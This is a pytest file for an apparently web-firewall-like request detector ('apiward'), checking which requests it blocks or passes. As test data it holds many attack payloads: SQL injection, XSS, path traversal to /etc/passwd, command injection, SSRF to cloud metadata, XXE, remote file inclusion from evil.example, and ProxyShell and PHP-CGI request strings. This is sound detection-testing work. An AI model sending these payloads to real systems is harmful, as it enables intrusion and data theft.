    fields = tuple(Field(Source.BODY, f"items[{i}].note", f"note {i}; see <b>{i}</b> & more") for i in range(10_000))
    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=fields)
    started = time.perf_counter()
    stage().findings(view)
    assert time.perf_counter() - started < 20.0


def test_megabyte_field_and_encoding_bomb_in_bounded_time() -> None:
    fields = (
        Field(Source.BODY, "big", ("x' or " * 200_000)[:1_000_000]),
        Field(Source.QUERY, "bomb", "%" + "25" * 50_000 + "2e%2e%2fetc%2fpasswd"),
        Field(Source.QUERY, "tags", "<" * 100_000),
        Field(Source.QUERY, "parens", "(" * 100_000 + ")" * 100_000),
    )
    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=fields)
    started = time.perf_counter()
    stage().findings(view)
    assert time.perf_counter() - started < 10.0


def test_missing_or_corrupt_model_is_a_startup_error(tmp_path: Path) -> None:
    with pytest.raises(ModelError):
        load_model(DetectionSettings(model=tmp_path / "missing.npz"))
    corrupt = tmp_path / "corrupt.npz"
    corrupt.write_bytes(b"not a model")
    with pytest.raises(ModelError):
        load_model(DetectionSettings(model=corrupt))
    assert load_model(DetectionSettings(use_model=False)) is None


@pytest.fixture(scope="module")
def shipped_model():  # type: ignore[no-untyped-def]
    from apiward.ml.model import AttackModel, default_model_path

    try:
        return AttackModel.load(default_model_path())
    except ModelError as exc:  # the artifact is rebuilt by `apiward train`; say why we skip
        pytest.skip(f"shipped model not loadable here: {exc}")


def test_with_the_shipped_model(shipped_model) -> None:  # type: ignore[no-untyped-def]
    with_model = DetectionStage(DetectionSettings(), shipped_model)
    benign = request(path="/products/42", query="color=red&size=M&q=drop+me+a+line")
    assert blocking(with_model.findings(benign)) == {}
    attack = request(query="id=1%27%20union%20select%20password%20from%20users--")
    assert blocking(with_model.findings(attack)) == {"query.id": Category.SQLI}
    # the model alone never blocks below detection.model_alone
    alone = DetectionStage(DetectionSettings(model_alone=1.0), shipped_model)
    for finding in alone.findings(request(query="q=hello%20%7B%7Bname%7D%7D")):
        assert finding.score < 0.5 or finding.rule != "model"


def test_headers_that_name_hosts_are_never_ssrf_for_the_model_either(shipped_model) -> None:  # type: ignore[no-untyped-def]
    stage = DetectionStage(DetectionSettings(model_alone=0.0), shipped_model)
    # (a cloud metadata service's name or address is the one host these headers are read for:
    # test_a_host_header_naming_a_metadata_service_is_ssrf)
    for host in ("localhost:8080", "127.0.0.1:8000", "internal-api:9000", "metadata:8080"):
        headers = [(name, value) for name, value in BROWSER if name != "host"] + [("host", host), ("origin", f"http://{host}")]
        found = stage.findings(request(headers=headers))
        assert not [f for f in found if f.category is Category.SSRF], (host, found)


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("q=chmod+755+vs+644", False),
        ("q=rsync+-avz+--delete+explanation", False),
        ("q=union+select+vs+union+all+performance+mysql+8", False),
        ("q=what+does+information_schema+contain", False),
        ("q=how+to+edit+%2Fetc%2Fhosts+on+macOS", False),
        ("q=mongo+%24ne+null+vs+%24exists", False),
        # the same terms with a payload's syntax, or without a question's words
        ("q=1%27+union+select+password+from+users--+example", True),
        ("q=%3B+cat+%2Fetc%2Fpasswd+example", True),
        ("q=IF++++%25VARIABLE%25+GTR+0+Echo+An+error+was+found", True),
        ("q=chmod+777+%2Fvar%2Fwww", True),
        ("q=%2Fetc%2Fhosts", True),
    ],
)
def test_a_question_about_an_attacks_terms_is_logged_not_blocked(shipped_model, query: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    """A search in a question's words about a command, a statement or a file: the analysers' hits
    are logged (below the block threshold) and the model does not read it."""
    findings = DetectionStage(DetectionSettings(), shipped_model).findings(request(query=query))
    assert bool(blocking(findings)) is blocked, findings
    if not blocked:
        assert findings and all(f.rule.endswith("+question") for f in findings), findings


@pytest.mark.parametrize(
    ("path", "query", "category"),
    [
        ("/autodiscover/autodiscover.json", "a@foo.var/owa/&Email=autodiscover/autodiscover.json%3Fa@foo.var&Protocol=XYZ", Category.SSRF),
        ("/autodiscover/autodiscover.json", "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", Category.SSRF),
        ("/autodiscover/autodiscover.json", "Email=jane.doe%40contoso.com&Protocol=ActiveSync&RedirectCount=1", None),
        ("/index.php", "-s", Category.CMDI),
        ("/cgi-bin/php", "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", Category.CMDI),
        ("/php-cgi/php-cgi.exe", "%ADd+allow_url_include%3d1", Category.CMDI),
        ("/search.php", "-price", None),
        ("/docs/intro", "-s", None),
    ],
)
def test_request_line_exploits_of_a_product(path: str, query: str, category: Category | None) -> None:
    """Exchange's Autodiscover handed a back-end path (ProxyShell), PHP-CGI handed an option."""
    found = blocking(stage().findings(request(path=path, query=query)))
    assert (category in found.values()) if category else not found, found


class _FixedModel:
    """A model that scores every value the same (the stage's arithmetic, not the model, is under test)."""

    categories = (Category.SQLI, Category.XSS)
    thresholds = {Category.SQLI: 0.5, Category.XSS: 0.5}

    def __init__(self, sqli: float, xss: float = 0.0) -> None:
        self.sqli = sqli
        self.xss = xss

    def predict_proba_normalized(self, views: list[object]):  # type: ignore[no-untyped-def]
        import numpy as np

        return np.array([[self.sqli, self.xss]] * len(views))


def test_a_json_body_posted_as_a_form_is_read_by_its_leaves_once(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """A JSON document posted as a form is read as JSON: each leaf once, under its own name."""
    import json

    stage = DetectionStage(DetectionSettings(), shipped_model)
    doc = json.dumps({"q": "<script>alert(1)</script>", "filters": "(price > 0 AND stock > 1)"})
    headers = [*BROWSER, ("content-type", "application/x-www-form-urlencoded")]
    found = blocking(stage.findings(request(method="POST", path="/1/query", body=doc.encode(), headers=headers)))
    assert found == {"body.q": Category.XSS}


def test_a_query_name_that_is_a_json_document_is_read_by_its_leaves_once(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """Without "=", a whole JSON document is a parameter *name*: it is read leaf by leaf (once, at
    each leaf), not as one long name, and the leaves' own names are not read again."""
    import json
    from urllib.parse import quote

    stage = DetectionStage(DetectionSettings(), shipped_model)
    doc = json.dumps({"q": "<script>alert(1)</script>", "filters": "(price > 0 AND stock > 1)"})  # no "=": one name
    found = blocking(stage.findings(request(path="/1/query", query=quote(doc), headers=list(BROWSER))))
    # (the name rule reports the same leaf at the name's own "#key" location)
    assert f"query.{doc[:64]}…#key.q" in found and set(found.values()) == {Category.XSS}
    assert all(location.count("#key") == 1 for location in found)


def test_a_name_that_only_opens_like_json_is_read_as_a_name() -> None:
    """A parameter name that opens like JSON but does not close like it ("[0].q...", PHP-style
    indexes) is not a document: it is read as a name (its indexes dropped); one that is a JSON
    document is read whole and leaf by leaf."""
    from urllib.parse import quote

    cases = {
        "[0].q<script>alert(1)</script>": {"query.[0].q<script>alert(1)</script>#key": Category.XSS},
        "[0][1]' or 1=1--": {"query.[0][1]' or 1=1--#key": Category.SQLI},
        '["<script>alert(1)</script>"]': {'query.["<script>alert(1)</script>"]#key': Category.XSS,
                                          'query.["<script>alert(1)</script>"]#key[0]': Category.XSS},
    }
    for name, expected in cases.items():
        assert blocking(stage().findings(request(query=quote(name) + "=1"))) == expected, name
    assert blocking(stage().findings(request(query=quote("[0].id") + "=1"))) == {}


def test_a_location_read_twice_is_not_corroborated_by_the_model_itself() -> None:
    """A repeated parameter (or JSON lines) reads one location twice: a model-only score below the
    block threshold stays below it; it is not raised as if it were lexical evidence."""
    stage = DetectionStage(DetectionSettings(model_alone=0.95), _FixedModel(0.9))  # type: ignore[arg-type]
    value = "%28price+%3E+0+and+published+%3D+1%29"
    once = [f for f in stage.findings(request(query=f"f={value}")) if f.location == "query.f"]
    twice = [f for f in stage.findings(request(query=f"f={value}&f={value}")) if f.location == "query.f"]
    assert [(f.location, f.rule) for f in once] == [("query.f", "model")]
    assert [(f.location, f.score, f.rule) for f in twice] == [(f.location, f.score, f.rule) for f in once]
    assert once[0].score < 0.5


def test_a_json_value_is_judged_by_its_leaves(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """A JSON document in a parameter is read as the application reads it: leaf by leaf, each
    finding located at its leaf; its syntax (braces, quotes) alone is not evidence."""
    import json
    import urllib.parse

    stage = DetectionStage(DetectionSettings(), shipped_model)

    def query(doc: object) -> RequestView:
        return request(query="filter=" + urllib.parse.quote(json.dumps(doc), safe=""))

    attack = query({"name": "<script>alert(1)</script>", "page": 2})
    assert blocking(stage.findings(attack)) == {"query.filter.name": Category.XSS}
    operator = query({"user": {"$where": "sleep(100)"}})
    assert "query.filter.user.$where#key" in blocking(stage.findings(operator))
    benign = query({"sort": "price", "order": "asc", "brands": ["O'Neill", "Levi's"], "q": "select size"})
    assert blocking(stage.findings(benign)) == {}


def test_a_json_filter_parameter_compares_named_fields(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """A ``where`` document (Parse's REST API) comparing named fields with ids is a filter: its
    operator keys are judged with their scalars, not by the model alone; an empty comparison
    (a login's ``$ne: ""``) still blocks."""
    import json
    import urllib.parse

    stage = DetectionStage(DetectionSettings(), shipped_model)

    def where(doc: object) -> RequestView:
        return request(query="where=" + urllib.parse.quote(json.dumps(doc), safe=""))

    benign = where({"status": "published", "author": {"$in": ["u_12", "u_97"]}})
    assert blocking(stage.findings(benign)) == {}
    login = where({"password": {"$ne": ""}})
    assert Category.NOSQLI in blocking(stage.findings(login)).values()


def test_the_shipped_stage_blocks_every_obvious_attack_of_the_model_tests(shipped_model) -> None:  # type: ignore[no-untyped-def]
    import urllib.parse

    import yaml

    cases = yaml.safe_load((Path(__file__).parents[1] / "ml" / "data" / "shipped_cases.yaml").read_text())
    with_model = DetectionStage(DetectionSettings(), shipped_model)
    for value in cases["attacks"]:
        found = blocking(with_model.findings(request(query="q=" + urllib.parse.quote(value, safe=""))))
        # a JSON value is read leaf by leaf: its findings are located inside it ("query.q.username.$ne")
        assert any(location == "query.q" or location.startswith("query.q.") for location in found), value
    for value in cases["benign"]:
        assert blocking(with_model.findings(request(query="q=" + urllib.parse.quote(value, safe="")))) == {}, value


@pytest.mark.parametrize(
    ("path", "blocked"),
    [
        ("/.env", True),
        ("/app/.bashrc", True),
        ("/blob/.bashrc", True),  # no repository ref in front: no code host's file page
        # a code host's page of a repository's dot-file (GitHub, GitLab, Gitea)
        ("/acme/dotfiles/blob/main/.bashrc", False),
        ("/acme/dotfiles/-/tree/v1.2/.config/", False),
        ("/acme/dotfiles/src/branch/main/.zshrc", False),
        ("/acme/web-app/blob/main/.github/workflows/ci.yml", False),  # a file under a dot-directory
        # the same file read or written through the code host's REST API (GitHub, GitLab)
        ("/api/v3/repos/acme/website/contents/.github/workflows/deploy.yml", False),
        ("/api/v4/projects/42/repository/files/.gitlab-ci.yml", False),
        # the file's history, last commit and tree listing (GitHub's and GitLab's web UI)
        ("/acme/api-service/latest-commit/main/.github/workflows/ci.yml", False),
        ("/platform/api-service/-/commits/main/.dockerignore", False),
        ("/platform/api-service/-/refs/main/logs_tree/.github", False),
        ("/repos/.env", True),
        ("/app/.git/config", True),
    ],
)
def test_a_dot_file_on_a_code_host_page_is_shown_not_served(shipped_model, path: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    stage = DetectionStage(DetectionSettings(), shipped_model)
    found = blocking(stage.findings(request(path=path)))
    assert (Category.TRAVERSAL in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("text", "blocked"),
    [
        ("Why does my DELETE FROM orders take so long?", False),
        ("create table in google docs", False),
        ("-1 or true or '", True),
        ("1' and sleep(5)-- -", True),
    ],
)
def test_an_encoded_cookie_is_judged_as_the_same_text_in_a_query(shipped_model, text: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    """A cookie arrives percent-encoded as the client wrote it; the model reads its text as it
    reads the same text sent (decoded) in a query parameter."""
    import urllib.parse

    stage = DetectionStage(DetectionSettings(), shipped_model)
    encoded = urllib.parse.quote(text, safe="")
    in_cookie = blocking(stage.findings(request(headers=[*BROWSER, ("cookie", f"sid=abc123; pref={encoded}")])))
    in_query = blocking(stage.findings(request(query=f"pref={encoded}")))
    assert bool(in_cookie) is blocked, in_cookie
    assert bool(in_query) is blocked, in_query


@pytest.mark.parametrize(("value", "blocked"), [("<%= @order.id %>", False), ("<%= 7*7 %>", True), ("<%= name %>", True)])
def test_an_erb_field_alone_is_not_blocked_by_the_model(shipped_model, value: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    import urllib.parse

    stage = DetectionStage(DetectionSettings(), shipped_model)
    found = blocking(stage.findings(request(query="q=" + urllib.parse.quote(value, safe=""))))
    assert bool(found) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [("id=%27", True), ("id=%22", True), ("id=%2527", True), ("id=%27%29", True),
     ("id=1%27", True), ("id=-1%27", True), ("id=1%2527", True), ("id=1%2522", True), ("id=-1%22", True),
     ("id=7%27%29", True), ("id=21128%27", True), ("id=%27%60", True), ("id=%5C", True), ("id=1%5C", True),
     ("id=%29%29", True), ("id=1%29", False), ("path=a%5C", False),
     ("id=%27%27", True), ("id=%22%22", False), ("q=O%27Brien", False), ("size=27%22", False),
     ("id=1%27%27", False), ("size=27%27%27", False), ("v=12345678901%27", False),
     # a multibyte charset's lead byte before the quote (GBK / Big5 swallow the escaping backslash)
     ("id=%bf%27", True), ("id=%25bf%27", True), ("id=%25df%255c%2527", True), ("name=%C3%9F%27", False),
     # after a number, a parenthesis or a statement closed and a string opened
     ("id=1%29%27", True), ("id=1%3B%27", True), ("id=1%3B", False)],
)
def test_a_lone_quote_is_the_error_probe(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("value", "category"),
    [("4096),.)()'),(", Category.SQLI), ("laptop..('''.\".'", Category.SQLI), ("2022-11-30')", Category.SQLI),
     ("shoes\")", Category.SQLI), ("310/*comment*/", Category.SQLI), ("3'onsGXa<'\">ecwzLO", Category.XSS),
     ("zxd5mfai'\"<>", Category.XSS), ("I <3 'you' \"<>", None),
     ('=ARRAYFORMULA(IF(B2:B="",,TRIM(LOWER(REGEXREPLACE(B2:B,"\\s+"," ")))))', None),  # a formula's calls closed
     ("thanks :')", None), ("Call me ('maybe').", None), ("Mozilla/5.0 (X11; Linux x86_64)", None),
     ("the end...", None), ("(see 'intro')", None), ("O'Brien's", None)],
)
def test_an_injection_testers_break_characters_are_a_probe(value: str, category: Category | None) -> None:
    """The random quotes, parentheses, dots and commas a tester appends to break a query, the
    marker it sends to find its reflection, a number cut off by a comment; not prose that ends in
    an emoticon or a closed parenthesis."""
    import urllib.parse

    found = blocking(stage().findings(request(query="q=" + urllib.parse.quote(value, safe=""))))
    assert (category in found.values()) if category else not found, found


def test_a_quote_in_a_json_document_is_a_character_table_entry() -> None:
    """A bot-detection sensor posts the keyboard layout as JSON ("Quote": "'"), an export its CSV
    quote character: a JSON document's leaves; the same character in a form field is the probe."""
    headers = [("content-type", "application/json")]
    table = json.dumps({"navigator": {"keyboard": {"layoutMap": [["Quote", "'"], ["Backquote", "`"]]}}}).encode()
    assert blocking(stage().findings(request("POST", "/sensor", headers=headers, body=table))) == {}
    form = [("content-type", "application/x-www-form-urlencoded")]
    found = blocking(stage().findings(request("POST", "/login", headers=form, body=b"username=%27&password=x")))
    assert Category.SQLI in found.values()


@pytest.mark.parametrize(
    ("value", "blocked"),
    [
        # a symbol-dense payload in base64 of letters and digits only, and in hex: plain to the fast paths
        ("Jy8qKl8qKi9BTkQvKipfKiovZXh0cmFjdHZhbHVlKDEsY29uY2F0KDB4N2UsKFNFTEVDVC8qKl8qKi91c2VyKCkpKSktLS8qKl8qKi8t", True),
        ("27204f5220545255452d2d202d", True),
        # a number that is also valid hex ("g1e`dd"), a digest, base64 of plain text
        ("673165606464", False),
        ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", False),
        ("dGhpcyBpcyBhIG5vcm1hbCB0ZXh0IHRva2Vu", False),
    ],
)
def test_a_plain_token_is_read_as_its_decoding_shows_it(value: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=f"data={value}")))
    assert bool(found) is blocked, found


def test_field_cache_gives_the_same_findings_as_no_cache(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """The per-field memo is keyed by source, name and value: a repeated request, and the same
    value under another source or name, score exactly as a stage without any cache does."""
    cached = DetectionStage(DetectionSettings(), shipped_model, cache_size=4)
    uncached = DetectionStage(DetectionSettings(), shipped_model, cache_size=0)
    payload = "1%27%20union%20select%20password%20from%20users--"
    requests = [
        request(query=f"id={payload}"),
        request(path=f"/items/{payload}"),
        request(query=f"other={payload}&color=red"),
        request(headers=[*BROWSER, ("x-id", "1' union select password from users--")]),
        request(query="user[$ne]=x&password__startswith=a"),
        request(path="/.env"),
        request(query=f"id={payload}"),
        request(),
    ]
    for _ in range(3):
        for req in requests:
            assert cached.findings(req) == uncached.findings(req)
    assert len(cached._field_cache) <= 4


def test_long_values_are_remembered_by_digest_with_the_same_findings(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """Values over 2 KiB are cached under a digest (the value is not kept): a repeat scores
    exactly as a stage without a cache, and two long values differing in one character do not
    share an entry."""
    cached = DetectionStage(DetectionSettings(), shipped_model)
    uncached = DetectionStage(DetectionSettings(), shipped_model, cache_size=0)
    filler = "lorem ipsum dolor sit amet " * 120
    attack = filler + "1' union select password from users-- " + filler
    lookalike = filler + "1' onion select password from users-- " + filler
    requests = [request(method="POST", path="/c", body=f"q={text}".encode(),
                        headers=[*BROWSER, ("content-type", "application/x-www-form-urlencoded")])
                for text in (attack, lookalike, attack, lookalike)]
    for req in requests:
        assert cached.findings(req) == uncached.findings(req)
    assert blocking(cached.findings(requests[2])) == {"body.q": Category.SQLI}
    keys = [key for key in cached._field_cache.data if isinstance(key[2], bytes)]
    assert len(keys) == 2 and all(len(key[2]) == 16 for key in keys)


def test_bounded_cache_caps_entries_and_characters() -> None:
    from apiward.detectors.stage import BoundedCache

    by_entries = BoundedCache(8, 10**9)
    for i in range(100):
        by_entries.put(f"k{i}", i, 1 + len(str(i)))
        assert len(by_entries) <= 8
    assert "k99" in by_entries.data and "k0" not in by_entries.data  # the oldest go first
    by_chars = BoundedCache(10**6, 1000)
    for i in range(500):
        by_chars.put(f"{i:03d}" + "x" * 97, i, 100)
        assert by_chars.cost <= 1000 and by_chars.cost == sum(len(k) for k in by_chars.data)
    by_chars.put("y" * 2000, 0, 2000)  # larger than the whole budget: not kept
    assert "y" * 2000 not in by_chars.data
    kept = next(iter(by_chars.data))
    by_chars.put(kept, -1, 100)  # a present key is not counted twice (`put_new` is for absent ones)
    assert by_chars.data[kept] != -1 and by_chars.cost == sum(len(k) for k in by_chars.data)
    by_chars.put_new("z" * 100, 7, 100)
    assert by_chars.data["z" * 100] == 7 and by_chars.cost == sum(len(k) for k in by_chars.data)
    off = BoundedCache(0, 1000)
    off.put("a", 1, 1)
    assert len(off) == 0


def _with_referer(referer: str) -> list[tuple[str, str]]:
    return [(k, v) for k, v in BROWSER if k != "referer"] + [("referer", referer)]


@pytest.mark.parametrize(
    ("referer", "category"),
    [
        ("https://shop.example/list?file=%2Fetc%2Fpasswd", Category.TRAVERSAL),
        ("https://shop.example/list?a=1&q=..%2F..%2F..%2Fwindows%2Fwin.ini", Category.TRAVERSAL),
        ("https://shop.example/list?q=%26id", Category.CMDI),
        ("https://shop.example/list?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Category.XSS),
        # remote file inclusion is kept there (an include's script URL cut with "?"), not SSRF
        ("https://shop.example/list?page=http%3A%2F%2Fevil.example%2Fshell.txt%3F", Category.SSRF),
        # a JSON parameter is read leaf by leaf, as in the request's own query
        ("https://shop.example/list?f=%7B%22id%22%3A%221%20or%201%3D1%22%7D", Category.SQLI),
        # a lone parameter read on its own still holds what a query value would
        ("https://shop.example/?q=how%20do%20I%20use%20window.location%3D%27javascript%3Aalert(1)%27", Category.XSS),
        ("https://shop.example/?q=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22", Category.XSS),
        ("https://shop.example/?q=%3Csvg%2Fonload%3Dalert(1)%3E", Category.XSS),
        # a payload in the parameter's name is outside the value its own reading sees
        ("https://shop.example/?%3Csvg%2Fonload%3Dalert(1)%3E=1", Category.XSS),
    ],
)
def test_referer_query_values_are_read_as_query_values(referer: str, category: Category) -> None:
    """Inside the whole Referer URL a path is a link; its query parameters are data."""
    findings = stage().findings(request(headers=_with_referer(referer)))
    assert blocking(findings).get("header.referer") is category


@pytest.mark.parametrize(
    "referer",
    [
        "https://shop.example/docs/etc/passwd-policy?lang=en",
        "https://shop.example/search?q=tom+%26+jerry&page=2",
        "https://shop.example/go?next=http%3A%2F%2F127.0.0.1%3A3000%2Fcallback",  # no SSRF in a Referer
        "https://shop.example/a/../b?x=1",
        "https://shop.example/go?next=https%3A%2F%2Fpartner.example%2Fdocs%2Freadme.txt",
        "https://shop.example/list?f=%7B%22sort%22%3A%22price%22%2C%22page%22%3A2%7D",
        # a sentence in a lone parameter is judged as the query value it is, not as code after "="
        "https://shop.example/?x=How%20do%20I%20use%20window.location%20to%20redirect%20after%20login%3F",
        "https://shop.example/?x=Error%3A%20document.cookie%20is%20undefined%20in%20the%20test%20environment",
    ],
)
def test_ordinary_referer_queries_pass(referer: str) -> None:
    assert blocking(stage().findings(request(headers=_with_referer(referer)))) == {}


@pytest.mark.parametrize(
    "referer",
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "gopher://127.0.0.1:6379/_INFO",
        "\\\\198.51.100.14\\share\\shell.txt",  # a share: no browser links from one
        "http://rfi.badhost.example/mini.txt?",  # a script's URL cut with "?"
        "http://evil.example@shop.example/shell.txt",  # a user name, which browsers strip
        "http://d9057759a70b7f890fa7.oastify.com",  # a testing tool's callback host
    ],
)
def test_a_forged_referer_keeps_its_ssrf_and_include_hits(referer: str) -> None:
    """A Referer is the linking page's http(s) URL; what no browser sends there is an attack."""
    found = blocking(stage().findings(request(headers=_with_referer(referer))))
    assert found.get("header.referer") is Category.SSRF


@pytest.mark.parametrize(
    "referer",
    [
        "http://192.168.1.20/intranet/index.php",  # an intranet page
        "http://localhost:5173/checkout",  # a developer's front end
        "http://203.0.113.7/shop/shell.php",  # a site on a bare address whose page has that name
        "android-app://com.google.android.gm/",  # an Android app's referrer
    ],
)
def test_an_ordinary_referer_to_an_internal_or_odd_page_passes(referer: str) -> None:
    assert blocking(stage().findings(request(headers=_with_referer(referer)))) == {}


@pytest.mark.parametrize(
    ("name", "value", "flagged"),
    [
        ("origin", "http://evil.example/shell.txt?", True),  # an Origin is a scheme and a host
        ("origin", "http://localhost:3000", False),
        ("origin", "null", False),
        ("origin", "capacitor://localhost", False),
        ("x-forwarded-for", "http://169.254.169.254/latest/meta-data/", True),
        ("x-forwarded-for", "127.0.0.1, 10.0.0.7", False),  # addresses behind a proxy
        ("x-forwarded-host", "http://evil.example/x.txt?", True),
        ("x-forwarded-host", "localhost:8080", False),
        ("x-original-url", "http://169.254.169.254/latest/meta-data/", True),  # a rewrite's header holds a path
        ("x-original-url", "/admin/users", False),
    ],
)
def test_a_url_in_an_address_header_keeps_its_ssrf_hits(name: str, value: str, flagged: bool) -> None:
    headers = [(k, v) for k, v in BROWSER if k != name] + [(name, value)]
    found = blocking(stage().findings(request(headers=headers)))
    assert (found.get(f"header.{name}") is Category.SSRF) is flagged


@pytest.mark.parametrize("path", ["/proxy/http://127.0.0.1/admin", "/fetch/http:/169.254.169.254/latest/meta-data/",
                                  "/img/gopher://10.0.0.5:6379/_x"])
def test_internal_url_in_the_path_is_ssrf(path: str) -> None:
    assert Category.SSRF in blocking(stage().findings(request(path=path))).values()


@pytest.mark.parametrize("path", ["/web/20200101/https://example.com/", "/share/https:/www.example.org/page"])
def test_public_url_in_the_path_passes(path: str) -> None:
    assert blocking(stage().findings(request(path=path))) == {}


def test_xinclude_body_without_a_doctype_is_xxe() -> None:
    body = b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/a"/></x>'
    headers = [("host", "shop.example"), ("content-type", "application/xml")]
    assert blocking(stage().findings(request("POST", "/api/xml", headers=headers, body=body))).get("body") is Category.XXE


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("media", ["application/xml", "text/plain", "image/svg+xml", "application/octet-stream"])
def test_wide_xml_without_a_charset_is_read_as_its_parser_reads_it(codec: str, media: str) -> None:
    """A UTF-16/32 document sent without a charset: XML parsers detect the encoding from the
    first bytes, so its DOCTYPE or XInclude is there for them though it is not ASCII here."""
    headers = [("host", "shop.example"), ("content-type", media)]
    for doc in ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
                '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>'):
        found = stage().findings(request("POST", "/api/xml", headers=headers, body=doc.encode(codec)))
        assert any(f.location == "body" and f.category is Category.XXE and f.score >= 0.5 for f in found), (codec, media, doc)


@pytest.mark.parametrize(("declared", "codec"), [("IBM037", "cp037"), ("IBM500", "cp500"), ("IBM1140", "cp1140")])
def test_ebcdic_xml_is_read_as_its_parser_reads_it(declared: str, codec: str) -> None:
    """Java and .NET parse an XML document written in EBCDIC (XML 1.0 appendix F): its DOCTYPE
    is there for them, though no byte of it is ASCII."""
    doc = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    headers = [("host", "shop.example"), ("content-type", "application/xml")]
    found = stage().findings(request("POST", "/api/xml", headers=headers, body=doc.encode(codec)))
    assert any(f.location == "body" and f.category is Category.XXE and f.score >= 0.5 for f in found)


def test_overlong_four_byte_dots_in_a_query_climb() -> None:
    step = "%f0%80%80%ae%f0%80%80%ae/"
    view = request(path="/download", query="f=" + step * 4 + "app/settings.yml")
    assert blocking(stage().findings(view)).get("query.f") is Category.TRAVERSAL


@pytest.mark.parametrize(
    ("query", "category"),
    [("ip=1.2.3.4&&ps -ef", Category.CMDI), ("file=foo.txt&&whoami", Category.CMDI), ("host=x&sleep 5", Category.CMDI),
     ("q=x'&&w&&", Category.CMDI), ("user=*)(&", Category.LDAPI), ("user=admin)(&)", Category.LDAPI),
     ("ip=127.0.0.1&whoami", Category.CMDI), ("host=&ifconfig", Category.CMDI)],
)
def test_command_split_off_by_a_raw_ampersand_is_read_with_its_value(query: str, category: Category) -> None:
    """The raw query is what a shell-building application may get: ``&&ps -ef`` is a command."""
    findings = blocking(stage().findings(request(path="/ping", query=query)))
    assert category in findings.values()


@pytest.mark.parametrize("body", [b"ip=127.0.0.1&whoami", b"host=8.8.8.8&&cat /etc/passwd", b"file=a&sleep 5"])
def test_command_split_off_by_a_raw_ampersand_in_a_form_is_read_with_its_value(body: bytes) -> None:
    headers = [("host", "shop.example"), ("content-type", "application/x-www-form-urlencoded")]
    findings = blocking(stage().findings(request("POST", "/ping", headers=headers, body=body)))
    assert Category.CMDI in findings.values(), body


@pytest.mark.parametrize("body", [b"a=1&debug&b=2", b"page=2&ids", b"q=tom&jerry&x=1", b"v=3&nocache"])
def test_flags_in_a_form_pass(body: bytes) -> None:
    headers = [("host", "shop.example"), ("content-type", "application/x-www-form-urlencoded")]
    assert blocking(stage().findings(request("POST", "/list", headers=headers, body=body))) == {}


@pytest.mark.parametrize(
    "query", ["a=1&&b=2", "a=1&debug&b=2", "q=tom&jerry", "x=1&&", "page=2&idx", "q=shoes&amp;size=9", "q=(&x=1", "q=f(&g"]
)
def test_flags_and_empty_pairs_in_a_query_pass(query: str) -> None:
    assert blocking(stage().findings(request(path="/list", query=query))) == {}


def test_escaped_header_line_in_a_body_is_weak_as_a_raw_one() -> None:
    """A body holds header-like lines legitimately (mail text, batch requests), escaped or not;
    the same text in a query value reaches a response header."""
    headers = [("host", "shop.example"), ("content-type", "application/x-www-form-urlencoded")]
    body = b"note=" + b"Dear team\\nLocation: Berlin office"
    assert blocking(stage().findings(request("POST", "/contact", headers=headers, body=body))) == {}
    view = request(path="/go", query="to=x%5Cr%5CnSet-Cookie:%20sid=1")
    assert blocking(stage().findings(view)).get("query.to") is Category.CRLF


@pytest.mark.parametrize("cookie", ["theme=dark; pref=;id", "pref=x' ; id ; '", "sid=1; q='; DROP TABLE users--"])
def test_cookie_value_split_by_its_own_semicolon_is_read_whole(cookie: str) -> None:
    """Browsers never send a cookie piece without "="; one that follows a value is that value's tail."""
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", cookie)]
    assert blocking(stage().findings(request(headers=headers)))


@pytest.mark.parametrize("cookie", ["a=1; b=2", "a=1;;b=2", "a=1; ; b=2", "lang=en; consent"])
def test_ordinary_cookie_headers_pass(cookie: str) -> None:
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", cookie)]
    assert blocking(stage().findings(request(headers=headers))) == {}


@pytest.mark.parametrize(
    ("probability", "reported"),
    # thresholds 0.5 -> the model's p maps onto the policy's scale one to one below 0.5: the
    # default log threshold (0.2) is reached at p = 0.2 exactly
    [(0.06, False), (0.19, False), (0.2, True), (0.35, True), (0.9, True)],
)
def test_a_model_only_finding_carries_its_evidence_whatever_rows_came_before(probability: float, reported: bool) -> None:
    """The model's evidence (a snippet of the value) is computed only for rows that can reach the
    log threshold; every model-only finding has it, on first sight and when the field is remembered."""
    stage = DetectionStage(DetectionSettings(), _FixedModel(probability))  # type: ignore[arg-type]
    value = "%28price+%3E+0+and+published+%3D+1%29"
    for _ in range(2):  # the second request reads the remembered field
        found = [f for f in stage.findings(request(query=f"f={value}")) if f.location == "query.f"]
